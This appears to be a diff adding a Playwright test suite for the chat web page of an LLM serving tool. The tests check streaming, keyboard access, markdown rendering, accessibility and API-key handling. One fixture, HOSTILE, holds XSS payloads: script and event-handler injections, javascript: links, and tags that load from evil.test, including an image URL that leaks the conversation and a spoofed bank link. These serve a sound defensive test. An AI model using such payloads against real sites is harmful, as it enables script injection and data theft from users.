@@ -1,0 +1,433 @@
+"""The page of a server as a person uses it: in Chromium, on a desktop and a phone, by keyboard, in light and dark."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import shutil
+import socket
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+
+from parallelformers_ng.runtime.group import WorkerGroup
+from tests.helpers.patience import PROMPTLY
+from tests.helpers.server import Running, ScriptedModel, serving, serving_on, tiny_tokenizer
+
+playwright = pytest.importorskip("playwright.sync_api", reason="the page is tested with playwright")
+CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(CHROMIUM is None, reason="the page is tested in Chromium; make page installs it"),
+]
+TOKENIZER = tiny_tokenizer()
+WIDTHS = (1280, 390)
+HOSTILE = """\
+<script>window.hit = 1</script> <img src=x onerror="window.hit = 1"> <svg onload="window.hit = 1">
+<meta http-equiv="refresh" content="0;url=http://evil.test/"> <base href="http://evil.test/">
+<iframe src="http://evil.test/"></iframe> <style>@import "http://evil.test/a.css"</style> <form action="http://evil.test">
+
+![picture](http://evil.test/p.png?conversation) ![](data:image/svg+xml,<svg/onload=alert(1)>)
+[one](javascript:window.hit=1) [two](data:text/html,<script>window.hit=1</script>) [three](JaVaScRiPt:window.hit=1)
+[https://bank.test](http://evil.test/login) [four](http://evil.test/"onmouseover="window.hit=1)
+
+# <b>title</b>
+> <i>quote</i>
+- <u>item</u>
+| <s>a</s> | b |
+| --- | --- |
+| `<script>` | **<img src=y>** |
+
+```html" onload="window.hit=1
+<script>window.hit = 1</script>
+"""
+MARKDOWN = """\
+# A title
+
+Some **bold**, some *slanted*, `a < b`, a snake_case_name, 2 * 3 * 4.
+
+- one
+  - within
+- two
+
+7. seven
+8. eight
+
+> said
+
+| a | b |
+| --- | --- |
+| 1 | 2 |
+
+```python
+if a < b:
+    print("**")
+```
+
+[its page](https://example.org/x) and https://example.org.
+"""
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with playwright.sync_playwright() as started:
+        # As root in a container there is no sandbox to be had.
+        browser = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+@pytest.fixture(params=WIDTHS)
+def page(request: pytest.FixtureRequest, browser: Any) -> Iterator[Any]:
+    """A page that says nothing to the console, and fetches nothing from elsewhere."""
+    wrong: list[str] = []
+    page = browser.new_page(viewport={"width": request.param, "height": 844})
+    page.set_default_timeout(PROMPTLY * 1000)
+    page.on("console", lambda message: wrong.extend([message.text] * ("Failed to load" not in message.text)))
+    page.on("pageerror", lambda error: wrong.append(str(error)))
+    page.on("request", lambda asked: wrong.extend([asked.url] * ("127.0.0.1" not in asked.url)))
+    yield page
+    page.close()
+    assert wrong == []
+
+
+def shows(page: Any, place: str, text: str) -> None:
+    page.locator(place, has_text=text).first.wait_for()
+
+
+def send(page: Any, text: str) -> None:
+    page.get_by_label("Your message").fill(text)
+    page.keyboard.press("Enter")
+
+
+def prompt_of(model: ScriptedModel, call: int = -1) -> str:
+    return TOKENIZER.decode(model.asked[call]["input_ids"][0])
+
+
+def violations(axe: Any, page: Any) -> list[Any]:
+    found = axe.run(page)["violations"]
+    return [(each["id"], each["help"], [node["html"] for node in each["nodes"]]) for each in found]
+
+
+def answered(page: Any, says: str) -> Any:
+    """The answer to one message, from a model that says this."""
+    model = ScriptedModel(TOKENIZER, says)
+    model.config.max_position_embeddings = 8192
+    with serving(model, TOKENIZER) as running:
+        page.goto(running.url)
+        send(page, "Hello")
+        shows(page, "#outcome", "tokens in")
+    return page.locator(".turn.assistant")
+
+
+@pytest.fixture(scope="module")
+def running(groups: Callable[[int], WorkerGroup]) -> Iterator[Running]:
+    with serving_on(groups(2), TOKENIZER) as found:
+        yield found
+
+
+def test_a_message_is_answered_and_the_ranks_and_the_plan_are_shown(running, page):
+    page.goto(running.url)
+    shows(page, "h1", "tiny")
+    page.get_by_label("Tokens at most").fill("12")
+    send(page, "Hello")
+    shows(page, "#outcome", "12 tokens in")
+    shows(page, "#ranks", "1 (cpu:1)")
+    shows(page, "#plan-text", "LlamaForCausalLM")
+    page.locator("summary").click()
+    assert page.locator("#picture rect").count() == 2 * page.locator("#plan-rows tr").count() > 0
+
+
+def test_two_turns_are_sent_with_their_history_and_a_reload_keeps_them(page):
+    model = ScriptedModel(TOKENIZER, "It says so.")
+    with serving(model, TOKENIZER) as running:
+        page.goto(running.url)
+        page.get_by_label("System prompt").fill("Be brief.")
+        page.get_by_label("Temperature").fill("0.5")
+        page.get_by_label("Top-p").fill("0.9")
+        page.get_by_label("Seed").fill("7")
+        page.get_by_label("Stop:").fill("no such\nbut so.")
+        send(page, "Hello")
+        shows(page, "#outcome", "tokens in")
+        page.get_by_label("Your message").press_sequentially("a")
+        page.keyboard.press("Shift+Enter")
+        page.keyboard.type("b")
+        page.keyboard.press("Enter")
+        running.until(lambda: page.locator(".turn").count() == 4 and len(model.asked) == 2)
+        shows(page, "#outcome", "tokens in")
+        said = (
+            "<|start|>system\nBe brief.<|end|>\n<|start|>user\nHello<|end|>\n<|start|>assistant\nIt says so.<|end|>\n"
+        )
+        assert prompt_of(model) == said + "<|start|>user\na\nb<|end|>\n<|start|>assistant\n"
+        config = model.asked[-1]["generation_config"]
+        assert (config.temperature, config.top_p, model.asked[-1]["seed"]) == (0.5, 0.9, 7)
+        page.get_by_label("Your message").fill("not sent")
+        before = page.inner_text("#log")
+        page.reload()
+        assert page.inner_text("#log") == before
+        assert page.get_by_label("Your message").input_value() == "not sent"
+        assert page.get_by_label("System prompt").input_value() == "Be brief."
+        assert page.context.cookies() == []
+        page.get_by_role("button", name="New chat").click()
+        send(page, "Again")
+        running.until(lambda: len(model.asked) == 3)
+        assert (
+            prompt_of(model) == "<|start|>system\nBe brief.<|end|>\n<|start|>user\nAgain<|end|>\n<|start|>assistant\n"
+        )
+
+
+def test_the_page_is_used_by_keyboard_alone(page):
+    model = ScriptedModel(TOKENIZER, "It says so.", holds=True)
+    with serving(model, TOKENIZER) as running:
+        page.goto(running.url)
+        shows(page, "#state", "Ready")
+        page.keyboard.press("Tab")
+        page.keyboard.press("Enter")  # the link to the message
+        page.keyboard.type("Hello")
+        page.keyboard.press("Enter")
+        running.until(lambda: model.asked)
+        page.keyboard.press("Tab")
+        assert page.evaluate("document.activeElement.id") == "stop"
+        page.keyboard.press("Enter")
+        shows(page, "#outcome", "Stopped.")
+        assert page.evaluate("document.activeElement.id") == "prompt"
+        assert page.get_by_label("Your message").input_value() == "Hello", "it has no answer, and may be sent again"
+        reached = set()
+        for _ in range(40):
+            page.keyboard.press("Tab")
+            reached.add(page.evaluate("document.activeElement.id || document.activeElement.textContent"))
+        assert reached >= {
+            "new", "log", "prompt", "go", "system", "temperature", "top_p", "seed", "max_tokens", "stops",
+            "curl", "copy-curl", "Picture and table", "What the API takes",
+        }  # fmt: skip
+
+
+def test_an_answer_streams_and_escape_stops_it_at_once(page):
+    model = ScriptedModel(TOKENIZER, "It says so. " * 20, holds=True)
+    with serving(model, TOKENIZER) as running:
+        page.goto(running.url)
+        send(page, "Hello")
+        running.until(lambda: model.asked)
+        shows(page, "#outcome", "Waiting for the first token")
+        assert page.locator("#log").get_attribute("aria-busy") == "true"
+        page.keyboard.press("Escape")
+        shows(page, "#outcome", "Stopped.")
+        running.until(lambda: model.cancelled == 1)
+        model.release(running)
+        page.get_by_label("Tokens at most").fill("23")
+        page.get_by_role("button", name="Send").click()
+        shows(page, "#outcome", "23 tokens in")
+        assert page.inner_text(".turn.assistant .body") == "It says so. It says so."
+
+
+def test_the_first_token_ends_the_waiting_text_and_a_stopped_answer_stays(page):
+    class Slow(ScriptedModel):
+        async def agenerate(self, streamer, **kwargs):  # type: ignore[no-untyped-def]
+            self._may_go.set()
+            self.says = "It says"
+            tokens = kwargs["generation_config"].max_new_tokens
+            kwargs["generation_config"].max_new_tokens = min(tokens, 7)
+            await super().agenerate(streamer, **kwargs)
+            self._may_go.clear()
+            try:
+                await self._may_go.wait()
+            finally:
+                self.cancelled += 1
+
+    model = Slow(TOKENIZER)
+    with serving(model, TOKENIZER) as running:
+        page.goto(running.url)
+        send(page, "Hello")
+        shows(page, "#outcome", "Writing")
+        shows(page, ".turn.assistant .body", "It says")
+        page.evaluate("document.getElementById('stop').click(); window.begun = performance.now()")
+        page.wait_for_function("document.getElementById('outcome').textContent === 'Stopped.'")
+        assert page.evaluate("performance.now() - window.begun") < 1000
+        running.until(lambda: model.cancelled == 1)
+        assert page.inner_text(".turn.assistant .body") == "It says"
+        page.reload()
+        assert page.inner_text(".turn.assistant .body") == "It says"
+
+
+def test_markdown_becomes_elements(page):
+    answer = answered(page, MARKDOWN)
+    for place, text in (
+        ("h4", "A title"), ("strong", "bold"), ("em", "slanted"), ("p code", "a < b"), ("blockquote", "said"),
+        ("ul ul li", "within"), ("ol li", "seven"), ("th", "a"), ("td", "1"),
+        ("pre", 'if a < b:\n    print("**")'), ("p", "a snake_case_name, 2 * 3 * 4."),
+    ):  # fmt: skip
+        assert text in answer.locator(place).first.inner_text()
+    assert answer.locator("ol").get_attribute("start") == "7"
+    assert answer.locator("em").count() == 1
+    links = answer.locator("a").evaluate_all("links => links.map(link => [link.href, link.target, link.rel])")
+    assert links == [
+        ["https://example.org/x", "_blank", "noopener noreferrer nofollow"],
+        ["https://example.org/", "_blank", "noopener noreferrer nofollow"],
+    ]
+    assert "its page (example.org)" in answer.inner_text(), "a link says where it leads"
+
+
+def test_a_hostile_answer_is_text(page):
+    answer = answered(page, HOSTILE)
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.hit") is None
+    assert page.url.startswith("http://127.0.0.1")
+    made = answer.locator("*").evaluate_all("all => [...new Set(all.map(each => each.localName))]")
+    assert set(made) <= {
+        "a", "article", "blockquote", "button", "code", "div", "h3", "h4", "li", "p", "pre", "span", "strong", "table",
+        "tbody", "td", "th", "thead", "tr", "ul",
+    }  # fmt: skip
+    links = answer.locator("a").evaluate_all("links => links.map(link => link.href)")
+    assert links
+    assert all(link.startswith("http") for link in links), links
+    assert "https://bank.test (evil.test)" in answer.inner_text()
+    assert "<script>window.hit = 1</script>" in answer.inner_text()
+
+
+@pytest.mark.parametrize(
+    "hostile", [">" * 5000 + "x", "*a " * 5000, "[" * 20000, "- " * 4000, "`" * 3000 + "x", "|-" * 4000]
+)
+def test_marks_without_end_hold_nothing_up(browser, hostile):
+    page = browser.new_page()
+    with serving(ScriptedModel(TOKENIZER), TOKENIZER) as running:
+        page.goto(running.url)
+        took = page.evaluate(
+            "text => { const begun = performance.now();"
+            "markdown(document.createElement('div'), text); return performance.now() - begun }",
+            hostile,
+        )
+    page.close()
+    assert took < 1000
+
+
+def test_the_content_policy_lets_nothing_in(browser):
+    """Even if an element got into the page, as it does here."""
+    page = browser.new_page()
+    with serving(ScriptedModel(TOKENIZER), TOKENIZER) as running, socket.create_server(("127.0.0.1", 0)) as elsewhere:
+        page.goto(running.url)
+        page.evaluate(
+            """url => {
+                const place = document.createElement("div");
+                place.innerHTML = `<img src="${url}/p.png"><img src=x onerror="window.hit=1">`
+                    + `<iframe src="${url}"></iframe><object data="${url}"></object>`
+                    + `<link rel="stylesheet" href="${url}/a.css">`;
+                document.body.append(place);
+                const script = document.createElement("script");
+                script.textContent = "window.hit = 1";
+                document.body.append(script);
+                fetch(url).catch(() => {});
+            }""",
+            f"http://127.0.0.1:{elsewhere.getsockname()[1]}",
+        )
+        elsewhere.settimeout(1)
+        with contextlib.suppress(TimeoutError):
+            while True:  # Chromium connects for the frame before it looks at the policy, and says nothing
+                assert elsewhere.accept()[0].recv(100) == b""
+        assert page.evaluate("window.hit") is None
+    page.close()
+
+
+def test_an_answer_is_copied_and_writes_from_right_to_left(browser):
+    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
+    page = context.new_page()
+    answer = answered(page, "שלום **עולם**")
+    answer.get_by_role("button", name="Copy").click()
+    shows(page, ".turn button", "Copied")
+    assert page.evaluate("navigator.clipboard.readText()") == "שלום **עולם**"
+    assert answer.locator("p").evaluate("p => getComputedStyle(p).direction") == "rtl"
+    assert page.locator("#prompt").get_attribute("dir") == "auto"
+    page.evaluate("delete Navigator.prototype.clipboard")  # as over plain HTTP from another machine
+    page.get_by_label("Your message").fill("")
+    page.locator("#copy-curl").click()
+    shows(page, "#copy-curl", "Copied")
+    page.get_by_label("Your message").press("Control+V")
+    assert page.get_by_label("Your message").input_value() == page.inner_text("#curl")
+    context.close()
+
+
+def test_the_line_of_curl_and_the_link_to_the_documents_are_right(page):
+    with serving(ScriptedModel(TOKENIZER, "It says so."), TOKENIZER, served_model_name="it's") as running:
+        page.goto(running.url)
+        shows(page, "#curl", "curl")
+        line = page.inner_text("#curl")
+        body = json.loads(line.partition("-d '")[2].removesuffix("'").replace("'\\''", "'"))
+        assert line.startswith(f"curl {running.url}/v1/chat/completions ")
+        assert running.client().post("/v1/chat/completions", json=body).status_code == 200
+        page.get_by_role("link", name="What the API takes").click()
+        shows(page, "h2", "POST /v1/chat/completions")
+        shows(page, "tr", "frequency_penalty")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_page_is_for_everybody(running, page, scheme):
+    axe = pytest.importorskip("axe_core_python.sync_playwright").Axe()
+    page.emulate_media(color_scheme=scheme)
+    answered(page, MARKDOWN)
+    page.goto(running.url)
+    shows(page, "#plan-text", "LlamaForCausalLM")
+    shows(page, "#ranks", "cpu:0")
+    page.locator("summary").first.click()
+    page.get_by_label("Tokens at most").fill("4")
+    send(page, MARKDOWN)
+    shows(page, "#outcome", "tokens in")
+    page.evaluate(
+        "text => paint(document.querySelector('.turn.assistant'), { content: text, reasoning: text })",
+        MARKDOWN,
+    )
+    assert violations(axe, page) == []
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "it fits the screen"
+    page.goto(running.url + "/docs")
+    assert violations(axe, page) == []
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "it fits the screen"
+
+
+def test_what_goes_wrong_is_said(page):
+    with serving(ScriptedModel(TOKENIZER), TOKENIZER, max_prompt_tokens=30) as running:
+        page.goto(running.url)
+        send(page, "Hello, this is too long")
+        shows(page, "#outcome.wrong", "may have 30")
+        assert page.locator(".turn").count() == 0
+        assert page.get_by_label("Your message").input_value() == "Hello, this is too long"
+
+
+def test_an_adapter_is_chosen_by_name_and_stays_chosen(page):
+    model = ScriptedModel(TOKENIZER, "It says so.")
+    with serving(model, TOKENIZER, lora_modules=["sql=a", "chat=b"]) as running:
+        page.goto(running.url)
+        page.locator("#choice").select_option("chat")
+        shows(page, "#curl", '"model":"chat"')
+        send(page, "Hello")
+        shows(page, "#outcome", "tokens in")
+        page.reload()
+        shows(page, "#curl", '"model":"chat"')
+        send(page, "Hello")
+        running.until(lambda: len(model.asked) == 2)
+        assert [call["adapter_names"] for call in model.asked] == [["adapter1"]] * 2
+
+
+def test_a_model_without_a_template_continues_the_text(page):
+    tokenizer = tiny_tokenizer()
+    tokenizer.chat_template = None
+    model = ScriptedModel(tokenizer, " upon *a* time")
+    with serving(model, tokenizer) as running:
+        page.goto(running.url)
+        shows(page, "#chat-title", "Text")
+        send(page, "Once")
+        shows(page, "#outcome", "tokens in")
+        assert page.inner_text(".turn.assistant .body") == " upon *a* time"
+        send(page, " there")
+        running.until(lambda: len(model.asked) == 2)
+        assert prompt_of(model) == "Once upon *a* time there"
+
+
+def test_the_key_is_asked_for_once(browser):
+    with serving(ScriptedModel(TOKENIZER, "It says so."), TOKENIZER, api_key="the key") as running:
+        context = browser.new_context(http_credentials={"username": "", "password": "the key"})
+        page = context.new_page()
+        page.goto(running.url)
+        shows(page, "h1", "tiny")
+        shows(page, "#curl", "$KEY")
+        send(page, "Hello")
+        shows(page, ".turn.assistant", "It says so.")
+        context.close()
